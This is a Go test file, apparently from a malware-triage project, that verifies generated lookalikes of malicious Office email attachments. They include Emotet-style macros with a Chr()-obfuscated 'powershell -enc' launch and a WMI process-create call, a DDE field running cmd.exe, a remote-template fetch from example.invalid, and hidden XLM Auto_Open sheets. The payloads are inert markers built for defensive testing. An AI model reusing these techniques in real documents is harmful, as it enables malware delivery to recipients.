package main

import (
	"bytes"
	"encoding/base64"
	"errors"
	"io"
	"mime"
	mmultipart "mime/multipart"
	"net/mail"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"triage/samples/gen/office/cfb/cfbread"

	"golang.org/x/text/encoding/japanese"
)

// officeAttachment parses a sample with the standard library's mail and
// multipart readers and returns its single attachment.
func officeAttachment(t *testing.T, msg []byte) (name string, data []byte, h mail.Header) {
	t.Helper()
	m, err := mail.ReadMessage(bytes.NewReader(msg))
	if err != nil {
		t.Fatalf("mail: %v", err)
	}
	mt, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
	if err != nil || mt != "multipart/mixed" {
		t.Fatalf("top-level type %q: %v", mt, err)
	}
	mr := mmultipart.NewReader(m.Body, params["boundary"])
	for {
		p, err := mr.NextRawPart()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment") {
			continue
		}
		if name != "" {
			t.Fatal("more than one attachment")
		}
		raw, err := io.ReadAll(p)
		if err != nil {
			t.Fatal(err)
		}
		if data, err = base64.StdEncoding.DecodeString(strings.NewReplacer("\r", "", "\n", "").Replace(string(raw))); err != nil {
			t.Fatalf("attachment base64: %v", err)
		}
		dec := &mime.WordDecoder{CharsetReader: func(cs string, r io.Reader) (io.Reader, error) {
			if strings.EqualFold(cs, "iso-2022-jp") {
				return japanese.ISO2022JP.NewDecoder().Reader(r), nil
			}
			return nil, errors.New("unsupported charset " + cs)
		}}
		name, _ = dec.DecodeHeader(p.FileName())
		if name == "" {
			_, ps, _ := mime.ParseMediaType(p.Header.Get("Content-Type"))
			name, _ = dec.DecodeHeader(ps["name"])
		}
	}
	if data == nil {
		t.Fatal("no attachment")
	}
	return name, data, m.Header
}

func cfbNames(t *testing.T, data []byte) map[string]int64 {
	t.Helper()
	streams, storages, err := cfbread.ReadAll(data)
	if err != nil {
		t.Fatalf("mscfb: %v", err)
	}
	names := map[string]int64{}
	for p, b := range streams {
		names[p] = int64(len(b))
	}
	for p := range storages {
		if p != "" {
			names[p] = 0
		}
	}
	return names
}

// zipContents reads every member of a zip, keyed by name.
func zipContents(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	parts := map[string][]byte{}
	for name, f := range zipMembers(t, data) {
		parts[name] = readMember(t, f)
	}
	return parts
}

func TestOfficeSamples(t *testing.T) {
	type check struct {
		name    string
		kind    string   // cfb, zip or rtf
		entries []string // streams (cfb) or parts (zip) that must exist
		absent  []string
		content []string // substrings of a zip part ("part:text") or of the RTF
	}
	want := map[string]check{
		"emotet-doc-jp":       {"請求書.doc", "cfb", []string{"WordDocument", "1Table", "Macros/PROJECT", "Macros/VBA/dir", "Macros/VBA/ThisDocument", "Macros/VBA/Module1"}, []string{"ObjectPool"}, nil},
		"emotet-doc-userform": {"請求書_1217.doc", "cfb", []string{"Macros/VBA/UserForm1", "Macros/UserForm1/f", "Macros/UserForm1/o", "Macros/UserForm1/VBFrame"}, nil, nil},
		"emotet-xls":          {"請求書_0114.xls", "cfb", []string{"Workbook", "_VBA_PROJECT_CUR/PROJECT", "_VBA_PROJECT_CUR/VBA/ThisWorkbook", "_VBA_PROJECT_CUR/VBA/Module1"}, nil, nil},
		"emotet-docm":         {"請求書_0115.docm", "zip", []string{"word/vbaProject.bin", "word/document.xml"}, nil, []string{"[Content_Types].xml:macroEnabled"}},
		"emotet-de-rechnung":  {"Rechnung_2019-09-16.doc", "cfb", []string{"Macros/VBA/Module1"}, nil, nil},
		"online-video-docx":   {"製品紹介.docx", "zip", []string{"word/media/image1.png"}, nil, []string{"word/document.xml:embeddedHtml=\"&lt;iframe src=&quot;http://example.invalid/regress/video.html&quot;"}},
		"online-video-script": {"製品紹介.docx", "zip", nil, nil, []string{"word/document.xml:&lt;script&gt;/*TRIAGE-REGRESSION*/&lt;/script&gt;"}},
		"online-video-youtube": {"製品紹介.docx", "zip", nil, nil, []string{"word/document.xml:src=&quot;https://www.youtube.com/embed/",
			"word/_rels/document.xml.rels:Target=\"https://www.youtube.com/watch?v=aqz-KE-bpKQ\" TargetMode=\"External\""}},
		"remote-template-docx": {"Travel_Expense_Form.docx", "zip", []string{"word/_rels/settings.xml.rels"}, []string{"word/vbaProject.bin"},
			[]string{"word/_rels/settings.xml.rels:relationships/attachedTemplate\" Target=\"http://example.invalid/regress/template.dotm\" TargetMode=\"External\""}},
		"dde-docx":        {"Shipment_Notice.docx", "zip", nil, nil, []string{`word/document.xml:<w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe </w:instrText>`}},
		"rtf-package":     {"invoice_0417.doc", "rtf", nil, nil, []string{`{\*\objclass Package}`, `\objemb`, `\dxjunk `}},
		"lnk-in-doc":      {"支払い請求書.doc", "cfb", []string{"ObjectPool/_1573829142/Ole10Native", "ObjectPool/_1573829142/CompObj"}, []string{"Macros/PROJECT"}, nil},
		"avaddon-xlm":     {"Documento_INL_2020.xlsm", "zip", []string{"xl/macrosheets/sheet1.xml"}, []string{"xl/vbaProject.bin"}, []string{`xl/workbook.xml:state="veryHidden"`, `xl/workbook.xml:<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>`, `xl/macrosheets/sheet1.xml:<f>ALERT(&quot;TRIAGE-REGRESSION&quot;)</f>`, `xl/macrosheets/sheet1.xml:<f>HALT()</f>`}},
		"xlm-xls":         {"Avviso_INL_2020.xls", "cfb", []string{"Workbook"}, []string{"_VBA_PROJECT_CUR"}, nil},
		"macro-table-doc": {"Sales_Summary_Template.doc", "cfb", []string{"Macros/VBA/NewMacros", "Macros/VBA/ThisDocument"}, nil, nil},
		"docx-plain":      {"Meeting_Minutes_2020-07-09.docx", "zip", []string{"word/document.xml"}, []string{"word/vbaProject.bin", "word/_rels/settings.xml.rels", "word/media/image1.png"}, []string{"word/document.xml:<w:tbl>"}},
		"xlsx-report":     {"Q1_Sales_Report.xlsx", "zip", []string{"xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"}, []string{"xl/vbaProject.bin", "xl/macrosheets/sheet1.xml"}, []string{"xl/worksheets/sheet1.xml:<f>SUM(B2:B4)</f><v>3980500</v>"}},
	}
	samples := officeSamples()
	if len(samples) != len(want) {
		t.Errorf("%d office samples, %d checks", len(samples), len(want))
	}
	docs := map[string][]byte{}
	for _, s := range samples {
		t.Run(s.Slug, func(t *testing.T) {
			c, ok := want[s.Slug]
			if !ok {
				t.Fatal("no check for this sample")
			}
			msg, err := s.Build()
			if err != nil {
				t.Fatal(err)
			}
			again, err := s.Build()
			if err != nil || !bytes.Equal(msg, again) {
				t.Error("Build is not reproducible")
			}
			name, data, h := officeAttachment(t, msg)
			docs[s.Slug] = data
			if name != c.name {
				t.Errorf("attachment %q, want %q", name, c.name)
			}
			if h.Get("In-Reply-To") != "" || (strings.HasPrefix(h.Get("Subject"), "RE") || strings.HasPrefix(h.Get("Subject"), "AW")) && h.Get("References") != "" {
				t.Error("thread headers present")
			}
			var have func(string) bool
			switch c.kind {
			case "cfb":
				names := cfbNames(t, data)
				have = func(n string) bool {
					for k := range names {
						if k == n || strings.HasPrefix(k, n+"/") {
							return true
						}
					}
					return false
				}
			case "zip":
				parts := zipContents(t, data)
				have = func(n string) bool { _, ok := parts[n]; return ok }
				for _, cs := range c.content {
					part, sub, _ := strings.Cut(cs, ":")
					if !strings.Contains(string(parts[part]), sub) {
						t.Errorf("%s lacks %q", part, sub)
					}
				}
			case "rtf":
				if !bytes.HasPrefix(data, []byte(`{\rtf1`)) {
					t.Fatalf("not RTF: %q", data[:10])
				}
				have = func(string) bool { return false }
				for _, cs := range c.content {
					if !bytes.Contains(data, []byte(cs)) {
						t.Errorf("RTF lacks %q", cs)
					}
				}
			}
			for _, e := range c.entries {
				if !have(e) {
					t.Errorf("missing %s", e)
				}
			}
			for _, e := range c.absent {
				if have(e) {
					t.Errorf("unexpected %s", e)
				}
			}
		})
	}
	if !bytes.Equal(docs["emotet-doc-jp"], docs["emotet-de-rechnung"]) {
		t.Error("§3 sample does not carry the §1 document")
	}
}

var chrRE = regexp.MustCompile(`Chr\((\d+)\)`)

// TestEmotetModule evaluates the macro's string building: the Chr() chain
// spells "powershell -enc " and the base64 literal decodes (UTF-16LE) to
// the marker command. It also checks the WMI and decoy requirements.
func TestEmotetModule(t *testing.T) {
	src := emotetModule("コメント", false)
	line := ""
	for _, l := range strings.Split(src, "\n") {
		if strings.Contains(l, "p = Chr(") {
			line = l
		}
	}
	var sb strings.Builder
	for _, m := range chrRE.FindAllStringSubmatch(line, -1) {
		n, _ := strconv.Atoi(m[1])
		sb.WriteByte(byte(n))
	}
	if sb.String() != "powershell -enc " {
		t.Errorf("Chr chain spells %q", sb.String())
	}
	b64 := regexp.MustCompile(`Hx2\(\) & "([A-Za-z0-9+/=]+)"`).FindStringSubmatch(src)
	if b64 == nil {
		t.Fatal("no base64 literal")
	}
	if got := decodePSCommand(t, b64[1]); got != "Write-Output 'TRIAGE-REGRESSION'" {
		t.Errorf("base64 decodes to %q", got)
	}
	for _, want := range []string{`GetObject("winmgmts:\\.\root\cimv2:Win32_Process")`, "w.Create ", "MsgBox c"} {
		if !strings.Contains(src, want) {
			t.Errorf("module lacks %q", want)
		}
	}
	if strings.Contains(src, "Wm3Spawn\n") || strings.Count(src, "Wm3Spawn") != 1 {
		t.Error("the WMI sub must never be called")
	}
	decoys := regexp.MustCompile(`Private Function (Zr\d\dq\w)`).FindAllStringSubmatch(src, -1)
	if len(decoys) != 10 {
		t.Fatalf("%d decoys", len(decoys))
	}
	for _, d := range decoys {
		if strings.Count(src, d[1]) != 2 { // declaration and its own return assignment
			t.Errorf("decoy %s is referenced elsewhere", d[1])
		}
	}
	if form := emotetModule("x", true); !strings.Contains(form, "c = UserForm1.TextBox1.Text") || strings.Contains(form, "Chr(") {
		t.Error("UserForm variant does not read the TextBox")
	}
}
